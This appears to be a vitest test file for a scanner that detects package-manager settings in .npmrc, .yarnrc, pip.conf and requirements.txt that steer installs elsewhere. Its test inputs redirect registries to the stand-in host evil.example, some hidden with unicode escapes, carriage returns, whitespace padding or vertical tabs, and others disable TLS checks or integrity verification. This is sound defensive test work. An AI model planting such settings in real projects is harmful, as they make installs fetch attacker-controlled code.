/** Settings of one a line, hidden as npm, Yarn 1 and pip still read them; and what stays quiet. */
import { expect, test } from 'vitest';
import { steeringDetectors } from '../../../src/core/discover/steering/index.ts';

const told = (path: string, source: string): string[] => {
  const bytes = new TextEncoder().encode(source);
  return steeringDetectors
    .filter((one) => one.wants(path, bytes.length))
    .flatMap((one) => one.facts({ bytes, size: bytes.length, depth: 'full' }, {}))
    .map((one) => (one.kind === 'steering' ? `${one.what} ${one.key} ${one.value}` : `${one.kind} ${'code' in one ? one.code : ''}`));
};

test.each<[string, string, string[]]>([
  ['.npmrc', '; c\rregistry=https://evil.example/', ['registry registry https://evil.example']],
  ['.npmrc', '"\\u0072egistry"="https://evil.example/"', ['registry registry https://evil.example']],
  ['.npmrc', `registry=${' '.repeat(5_000)}https://evil.example/`, ['registry registry https://evil.example']],
  ['.npmrc', '${NOPE?}registry=https://evil.example/', ['problem unsupported']],
  ['.npmrc', '@acme:registry[]=https://evil.example/', ['registry @acme:registry https://evil.example']],
  ['.npmrc', 'strict-ssl=', ['hook strict-ssl nothing']],
  ['.npmrc', "'strict-ssl'=false", ['hook strict-ssl false']],
  ['.npmrc', 'https-proxy=http://me:hunter2@evil.example:8080/x', ['hook https-proxy http://evil.example:8080']],
  ['.npmrc', 'replace-registry-host=always', ['hook replace-registry-host always']],
  ['.npmrc', 'package-lock=false\ncafile=./ca.pem', ['hook package-lock false', 'hook cafile ./ca.pem']],
  ['.npmrc', 'python=./p\nnode-gyp=./g.js\nuserconfig=./n', ['hook python ./p', 'hook node-gyp ./g.js', 'hook userconfig ./n']],
  ['.npmrc', 'dangerously-allow-all-builds', ['hook dangerously-allow-all-builds true']],
  ['.npmrc', 'verify-store-integrity=false', ['hook verify-store-integrity false']],
  ['.npmrc', 'a-setting-of-tomorrow=Hunter2', ['hook a-setting-of-tomorrow set']],
  ['.npmrc', '; strict-ssl=false\nsave-exact=true\nstrict-ssl\nfund=false\n//r.example/:_authToken=x\n//${H}/:_authToken=${T}', []],
  ['.yarnrc', '--install.registry "https://evil.example"', ['registry --install.registry https://evil.example']],
  ['.yarnrc', 'registry "https://evil.example" # c', ['registry registry https://evil.example']],
  ['.yarnrc', '"registry" "https://evil.example"', ['registry registry https://evil.example']],
  ['.yarnrc', 'yarn-offline-mirror "./m"', ['hook yarn-offline-mirror ./m']],
  ['.yarnrc', '"@acme:registry" "https://evil.example"', ['registry @acme:registry https://evil.example']],
  ['.yarnrc', '# yarn-path "./y"\nlastUpdateCheck 1\nsave-prefix ""\n--install.ignore-scripts true', []],
  ['pip.conf', '[global]\nindex_url=https://evil.example/x', ['registry index-url https://evil.example']],
  ['pip.conf', '[global]\n--Index-URL: https://evil.example/x', ['registry index-url https://evil.example']],
  ['pip.conf', '[global]\r; c\rEXTRA_INDEX_URL = https://evil.example/x', ['registry extra-index-url https://evil.example']],
  ['pip.conf', '[install]\nno-index = true\nproxy = evil.example:80', ['hook no-index true', 'hook proxy set']],
  ['pip.conf', '[global]\nnonsense\n', ['problem syntax']],
  ['pip.conf', '[global]\n# index-url = https://evil.example\ntimeout = 60\nrequire-hashes = true\n', []],
  ['requirements.txt', '# c\u2028--index-url https://evil.example/s', ['registry --index-url https://evil.example']],
  ['requirements.txt', '# c\u000b-ihttps://evil.example/s', ['registry --index-url https://evil.example']],
  ['requirements.txt', '-fhttps://evil.example/s', ['registry --find-links https://evil.example']],
  ['requirements.txt', '--pre --extra-ind "https://evil.example/s"', ['registry --extra-index-url https://evil.example']],
  ['requirements.txt', '-r https://evil.example/r.txt', ['registry --requirement https://evil.example']],
  ['requirements.txt', '-chttps://evil.example/r.txt', ['registry --constraint https://evil.example']],
  ['requirements.txt', '-f wheels\n--no-index', ['hook --find-links wheels', 'hook --no-index true']],
  ['requirements.txt', '# -f wheels\n-r base.txt\n-c c.txt\n--pre\ntorch==2.6.0 -i https://ignored.example', []],
])('%s: %j', (path, source, expected) => {
  expect(told(path, source).map((one) => one.replace(/set to [0-9a-f]{12}$/, 'set'))).toEqual(expected);
});
